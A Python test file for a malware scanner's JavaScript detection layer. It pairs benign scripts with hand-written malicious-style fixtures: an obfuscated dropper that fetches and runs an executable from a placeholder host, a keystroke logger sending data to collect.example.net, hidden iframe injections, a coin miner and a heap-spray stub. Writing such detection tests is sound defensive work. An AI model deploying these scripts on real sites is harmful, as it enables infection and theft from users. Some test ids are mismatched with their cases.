"""The javascript layer on fixtures written for these tests: malware families score, bundles do not.

Every fixture below is inert text written by hand in the style of the family it stands for; none
comes from a real sample and none is ever executed.
"""

from __future__ import annotations

import pytest

from malwaresnipper.engine.capture import Capture
from malwaresnipper.engine.config import EngineConfig
from malwaresnipper.engine.features import Features
from malwaresnipper.engine.features.javascript import extract_js_features
from malwaresnipper.engine.layers.javascript import JavascriptLayer, assess_script, combine
from malwaresnipper.engine.results import Severity
from helpers.samples import SKIMMER


def _hex(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


# -- malicious-style fixtures ---------------------------------------------------------------------

OBFUSCATED_DROPPER = (
    "var _0x4f2a=['" + "','".join(_hex(w) for w in ("WScript.Shell", "ADODB.Stream", "SaveToFile", "%TEMP%\\\\a.exe",
                                                     "MSXML2.XMLHTTP", "GET", "http://dl.invalid/p.bin")) + "'];\n"
    "var sh = new ActiveXObject(_0x4f2a[0]); var st = new ActiveXObject('ADODB.Stream');\n"
    "var x = WScript.CreateObject(_0x4f2a[4]); x.open(_0x4f2a[5], _0x4f2a[6], false); x.send();\n"
    "st.open(); st.type = 1; st.write(x.ResponseBody); st.SaveToFile(sh.ExpandEnvironmentStrings(_0x4f2a[3]), 2);\n"
    "sh.Run(sh.ExpandEnvironmentStrings(_0x4f2a[3]), 0);\n"
)

REVERSED_DROPPER = (
    'var a = "llehS.tpircSW".split("").reverse().join("");\n'
    'var b = "maertS.BDODA".split("").reverse().join("");\n'
    "var o = new ActiveXObject(a); var s = new ActiveXObject(b);\n"
)

CC_ON_DROPPER = (
    "/*@cc_on\n  @if (@_win32 || @_win64)\n"
    '    var t = "W" + "S" + "c" + "ript"; var p = "%TEMP%/" + "upd" + ".exe";\n'
    "    var o = this[t]; o.Sleep(100);\n  @end\n@*/\n"
)

PACKED = (
    "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--)"
    "{d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};"
    "while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
    "('0 1=\\'2\\';3.4(1);',5,5,'var|msg|hello|console|log'.split('|'),0,{}))"
)

JSFUCK = "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]" * 20 + "()"

AAENCODE = (
    "\uff9f\u03c9\uff9f\uff89= /\uff40\uff4d\u00b4\uff09\uff89 ~\u253b\u2501\u253b   //*\u00b4\u2207\uff40*/ ['_']; "
    "o=(\uff9f\uff70\uff9f)  =_=3; c=(\uff9f\u0398\uff9f) =(\uff9f\uff70\uff9f)-(\uff9f\uff70\uff9f); "
    "(\uff9f\u0414\uff9f) =(\uff9f\u0398\uff9f)= (o^_^o)/ (o^_^o);(\uff9f\u0414\uff9f)={\uff9f\u0398\uff9f: '_' ,"
    "\uff9f\u03c9\uff9f\uff89 : ((\uff9f\u03c9\uff9f\uff89==3) +'_') [\uff9f\u0398\uff9f] };"
)

JJENCODE = '$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$],_$_:++$};$.$_=($.$_=$+"")[$.$_$]+($._$=$.$_[$.__$]);'

MINER = (
    '<!-- miner -->\nvar miner = new CoinHive.Anonymous("SITE_KEY_0123456789", {throttle: 0.3});\n'
    "miner.start(CoinHive.FORCE_EXCLUSIVE_TAB);\n"
    "miner.on('found', function () { console.log(miner.getHashesPerSecond()); });\n"
)


ESCAPED_IFRAME = (
    'window["' + _hex("document") + '"]["' + _hex("write") + '"]("' + _hex(
        '<iframe src="http://landing.invalid/gate" width="0" height="0" style="visibility:hidden"></iframe>'
    ) + '");'
)

DECODED_REDIRECT = 'setTimeout(function () { window.location.href = atob("aHR0cDovL2xhbmRpbmcuaW52YWxpZC8="); }, 50);'

KEYLOGGER = (
    "var buf = '';\n"
    "document.addEventListener('keypress', function (e) {\n"
    "  buf += String.fromCharCode(e.which || e.keyCode);\n"
    "  if (buf.length > 20) { new Image().src = 'https://collect.example.net/k?d=' + encodeURIComponent(buf); buf = ''; }\n"
    "});\n"
)

_HIDDEN_IFRAME = '<iframe src="http://landing.invalid/gate.php?id=7" width=0 height=0></iframe>'
SEPARATOR_ENCODED = (
    "var p1 = '" + "".join("QzXwVbRt" + f"{ord(ch):02x}" for ch in _HIDDEN_IFRAME) + "';\n"
    "var p2 = p1.split('QzXwVbRt').join('%');\n"
    "document.write(unescape(p2));\n"
)

ANGLER_STUB = (
    'var WEhOMYzKq = "", HLnzWhQp;\nfvZQRcrKwT = "UqnvwhqDE" + "esFMvIxH".substr(9, 16);\n'
    'fvZQRcrKwT = fvZQRcrKwT + "IT";\nkfDNuIYXpmQ[fvZQRcrKwT]("lOkZOtRRtkQg", "yN8-IN-");\n'
)

ESCAPED_FUNCTION = (
    'var run = new Function("' + _hex("s") + '", "' + _hex("{var d = s.split(\"##\").join(\"\"); return d;}") + '");\n'
    "var code = run(\"" + "##".join("var sh = new ActiveXObject('WScript' + '.Shell');") + "\");\n"
)

PERCENT_EVAL = (
    "function adjusted(s) { return decodeURIComponent(s); }\n"
    'eval(adjusted("' + "".join(f"%{ord(ch):02X}" for ch in "var p = ('WScri') + ('pt'); var q = ('ADO') + ('DB');" * 3) + '"));\n'
)

JUNK_CHAIN = "".join(
    f"function Kq{i}_x{i * 7}Z(){{ \t\tvar Vb{i}_R = 'Zc{i}';Kq{i + 1}_x{(i + 1) * 7}Z(); }}" for i in range(12)
) + "function Kq12_x84Z(){ document.write(unescape('%3Ciframe src=http://x.invalid/%3E')); }"

HEAP_SPRAY = (
    'var sc = unescape("%u9090%u9090' + "%u4141%u4242" * 20 + '");\n'
    'var spray = unescape("%u0c0c%u0c0c"); while (spray.length < 0x40000) spray += spray;\n'
)


# -- benign-style fixtures -------------------------------------------------------------------------

def minified_bundle(modules: int = 120) -> str:
    """A webpack-style minified bundle: short names, one long line, the idioms that fool naive rules."""
    prelude = (
        '!function(e){var t={};function n(r){if(t[r])return t[r].exports;var o=t[r]={i:r,l:!1,exports:{}};'
        "return e[r].call(o.exports,o,o.exports,n),o.l=!0,o.exports}n.m=e,n.c=t,n.d=function(e,t,r){n.o(e,t)||"
        'Object.defineProperty(e,t,{enumerable:!0,get:r})},n.r=function(e){"undefined"!=typeof Symbol&&'
        'Symbol.toStringTag&&Object.defineProperty(e,Symbol.toStringTag,{value:"Module"})},n(n.s=0)}(['
    )
    idioms = [
        'function(e,t){var n=function(){return this}()||Function("return this")();e.exports=n}',
        "function(e,t){var n=[0,1996959894,3993919788,2567524794,124634137,1886057615,3915621685,2657392035,"
        "249268274,2044508324,3855990285,2680153253,498536548,1789927666,4089016648,2227061214];"
        "e.exports=function(e){for(var t=-1,r=0;r<e.length;r++)t=t>>>8^n[255&(t^e.charCodeAt(r))];return~t}}",
        'function(e,t){e.exports=function(e){for(var t="",n=0;n<e.length;n++){var r=e[n];t+=r<128?'
        "String.fromCharCode(r):String.fromCharCode(192|r>>6,128|63&r)}return t}}",
        'function(e,t){e.exports=function(){try{return new window.ActiveXObject("Microsoft.XMLHTTP")}'
        "catch(e){return new XMLHttpRequest}}}",
        'function(e,t){e.exports=function(e){var t=document.createElement("iframe");t.style.display="none",'
        't.src=e,document.body.appendChild(t);return t}}',
        'function(e,t,n){"use strict";var r=n(1);t["default"]=function(e){return r["default"](e,{key:"value",'
        'label:"Click here to continue",title:"Settings"})}}',
        'function(e,t){e.exports={en:{hello:"Hello",bye:"Goodbye"},ja:{hello:"\\u3053\\u3093\\u306b\\u3061\\u306f",'
        'bye:"\\u3055\\u3088\\u3046\\u306a\\u3089"}}}',
        'function(e,t){var n=/[\\x00-\\x1f\\x7f"\\\\]/g;e.exports=function(e){return e.replace(n,function(e){'
        'return"\\\\u"+("0000"+e.charCodeAt(0).toString(16)).slice(-4)})}}',
    ]
    body = [idioms[i % len(idioms)] for i in range(modules)]
    return prelude + ",".join(body) + "]);"


READABLE_LIBRARY = '''
/**
 * tinyquery: a small DOM helper written for these tests.
 */
(function (global) {
  "use strict";
  function TinyQuery(selector) {
    this.elements = Array.prototype.slice.call(document.querySelectorAll(selector));
  }
  TinyQuery.prototype.on = function (eventName, handler) {
    this.elements.forEach(function (element) { element.addEventListener(eventName, handler); });
    return this;
  };
  TinyQuery.prototype.ajax = function (url, options) {
    var request = new XMLHttpRequest();
    request.open(options.method || "GET", url, true);
    request.send(options.body ? JSON.stringify(options.body) : null);
    return request;
  };
  TinyQuery.prototype.redirectHome = function () { window.location.href = "/"; };
  global.tq = function (selector) { return new TinyQuery(selector); };
})(window);
'''

ANALYTICS_LOADER = (
    'var gaJsHost = (("https:" == document.location.protocol) ? "https://ssl." : "http://www.");\n'
    "document.write(unescape(\"%3Cscript src='\" + gaJsHost + \"google-analytics.com/ga.js' "
    "type='text/javascript'%3E%3C/script%3E\"));\n"
)

IE_DETECTION = 'var isIE = Function("/*@cc_on return true; @*/")() || new Function("return /*@cc_on!@*/false")();'

NEW_SCRIPT = 'var newScript = document.createElement("script"); newScript.src = "/app.js"; document.head.appendChild(newScript);'


def _assess(text: str, host: str = "shop.example.org"):
    return assess_script(text, extract_js_features(text), host)


def _names(text: str, host: str = "shop.example.org") -> set[str]:
    return {f.name for f in _assess(text, host).findings}


def _scan(*scripts: str, url: str = "https://shop.example.org/checkout"):
    capture = Capture.build(url, scripts=list(scripts))
    return JavascriptLayer(EngineConfig()).analyze(capture, Features(capture))


# -- tests -----------------------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("text", "finding", "classification", "floor"),
    [
        (OBFUSCATED_DROPPER, "wsh_dropper", "dropper", 80),
        (REVERSED_DROPPER, "wsh_dropper", "dropper", 80),
        (CC_ON_DROPPER, "conditional_compilation", "dropper", 70),
        (PACKED, "packer", "obfuscated", 40),
        (JSFUCK, "jsfuck", "obfuscated", 65),
        (AAENCODE, "aaencode", "obfuscated", 65),
        (JJENCODE, "jjencode", "obfuscated", 65),
        (MINER, "cryptominer", "cryptominer", 75),
        (SKIMMER, "skimmer", "skimmer", 40),
        (ESCAPED_IFRAME, "escaped_code", "obfuscated", 40),
        (DECODED_REDIRECT, "decoded_redirect", "redirect", 30),
        (KEYLOGGER, "keylogger", "keylogger", 30),
        (HEAP_SPRAY, "shellcode", "exploit_kit", 60),
        (SEPARATOR_ENCODED, "separator_encoding", "obfuscated", 40),
        (ESCAPED_FUNCTION, "escaped_eval", "obfuscated", 40),
        (PERCENT_EVAL, "percent_encoded_eval", "obfuscated", 40),
        (JUNK_CHAIN, "junk_call_chain", "obfuscated", 40),
        (ANGLER_STUB, "literal_slicing", "obfuscated", 35),
    ],
    ids=["dropper", "reversed", "cc_on", "packer", "jsfuck", "aaencode", "jjencode", "miner", "skimmer",
         "escaped_iframe", "redirect", "keylogger", "heap_spray", "separator", "literal_slicing",
         "escaped_function", "percent_eval", "junk_chain"],
)
def test_malicious_fixture_is_found(text: str, finding: str, classification: str, floor: float) -> None:
    assessment = _assess(text)
    by_name = {f.name: f for f in assessment.findings}
    assert finding in by_name, [f.name for f in assessment.findings]
    assert by_name[finding].classification == classification
    assert assessment.score >= floor


def test_hex_alphabet_lookups_are_not_literal_slicing() -> None:
    text = 'function hex(n){return "0123456789abcdef".charAt(n>>4)+"0123456789abcdef".charAt(n&15)}'
    assert "literal_slicing" not in _names(text)


def test_percent_u_payload_without_spray_words_is_still_an_exploit_payload() -> None:
    text = 'var p = unescape("' + "%u6a3c%u5b21%u7e09" * 10 + '");'
    assert "unicode_payload" in _names(text)


def test_obfuscated_dropper_reports_obfuscation_and_windows_objects() -> None:
    names = _names(OBFUSCATED_DROPPER)
    assert {"wsh_dropper", "escaped_code"} <= names


@pytest.mark.parametrize(
    "text",
    [minified_bundle(), minified_bundle(400), READABLE_LIBRARY, ANALYTICS_LOADER, IE_DETECTION, NEW_SCRIPT],
    ids=["bundle", "big_bundle", "readable", "analytics_loader", "ie_detection", "new_script"],
)
def test_benign_code_scores_low(text: str) -> None:
    assessment = _assess(text)
    assert assessment.score < 20, [(f.name, f.score) for f in assessment.findings]
    assert not any(f.severity >= Severity.MEDIUM for f in assessment.findings)


def test_minified_bundle_is_minified_style_but_not_obfuscated() -> None:
    bundle = minified_bundle(400)
    features = extract_js_features(bundle)
    assert features.is_minified_style
    assert features.identifier_short_ratio > 0.3
    assert all(f.category != "obfuscation" for f in _assess(bundle).findings)


def test_skimmer_sending_to_its_own_site_is_not_a_skimmer() -> None:
    same_site = SKIMMER.replace("https://cdn-analytics.example.net/gate.php", "https://shop.example.org/checkout/save")
    assert "skimmer" not in _names(same_site, host="shop.example.org")
    assert "skimmer" in _names(SKIMMER, host="shop.example.org")


def test_combine_is_a_noisy_or() -> None:
    assert combine([]) == 0.0
    assert combine([50.0, 50.0]) == pytest.approx(75.0)
    assert combine([100.0]) < 100.0


def test_layer_reports_indicators_with_evidence_from_the_script() -> None:
    result = _scan(READABLE_LIBRARY, OBFUSCATED_DROPPER)
    assert result.layer == "javascript"
    assert result.score >= 80
    assert result.confidence == 1.0
    ids = {i.id for i in result.indicators}
    assert "javascript.wsh_dropper" in ids
    dropper = next(i for i in result.indicators if i.id == "javascript.wsh_dropper")
    assert dropper.classification == "dropper"
    assert dropper.severity is Severity.HIGH
    evidence = dropper.evidence[0]
    assert evidence.location == "script #2 (inline)"
    assert evidence.offset is not None and evidence.offset >= 0
    assert OBFUSCATED_DROPPER[evidence.offset : evidence.offset + 4].lower() in ("acti", "wscr", "adod")
    assert evidence.snippet and len(evidence.snippet) <= 160
    assert result.details["worst_script"] == "script #2 (inline)"
    assert all(i.id.startswith("javascript.") for i in result.indicators)


def test_layer_score_is_the_worst_script() -> None:
    alone = _scan(MINER).score
    together = _scan(minified_bundle(), READABLE_LIBRARY, MINER).score
    assert together == pytest.approx(alone)
    assert _scan(minified_bundle(), READABLE_LIBRARY).score < 20


def test_same_finding_in_two_scripts_is_one_indicator_with_two_evidences() -> None:
    result = _scan(MINER, MINER.replace("SITE_KEY", "OTHER_KEY"))
    miners = [i for i in result.indicators if i.id == "javascript.cryptominer"]
    assert len(miners) == 1
    assert [e.location for e in miners[0].evidence] == ["script #1 (inline)", "script #2 (inline)"]


def test_external_script_location_names_its_url() -> None:
    capture = Capture.build(
        "https://shop.example.org/",
        scripts=[{"url": "https://cdn.bad.invalid/m.js", "text": MINER, "inline": False}],
    )
    result = JavascriptLayer(EngineConfig()).analyze(capture, Features(capture))
    assert result.indicators[0].evidence[0].location == "script #1 https://cdn.bad.invalid/m.js"


def test_no_scripts_means_nothing_seen() -> None:
    result = _scan(url="https://example.org/")
    assert result.score == 0.0
    assert result.confidence == 0.0
    assert result.indicators == ()


def test_inline_scripts_of_the_html_are_analysed() -> None:
    capture = Capture.build("https://example.org/", html=f"<html><body><script>{PACKED}</script></body></html>")
    result = JavascriptLayer(EngineConfig()).analyze(capture, Features(capture))
    assert "javascript.packer" in {i.id for i in result.indicators}


@pytest.mark.parametrize("text", ["\x00\xff" * 5000, "\ud800" * 100, "'" * 20_001, "eval(" * 10_000, ""])
def test_garbage_does_not_raise(text: str) -> None:
    capture = Capture.build("https://example.org/", scripts=[text] if text else [])
    result = JavascriptLayer(EngineConfig()).analyze(capture, Features(capture))
    assert 0.0 <= result.score <= 100.0


def test_details_explain_the_worst_script() -> None:
    result = _scan(READABLE_LIBRARY, ESCAPED_IFRAME)
    style = result.details["worst_script_style"]
    assert style["chars"] == len(ESCAPED_IFRAME)
    assert style["ascii_escape_density"] > 0.4
    assert result.details["script_scores"][0] == pytest.approx(result.score, abs=0.01)
    assert "worst_script_style" not in _scan(READABLE_LIBRARY).details
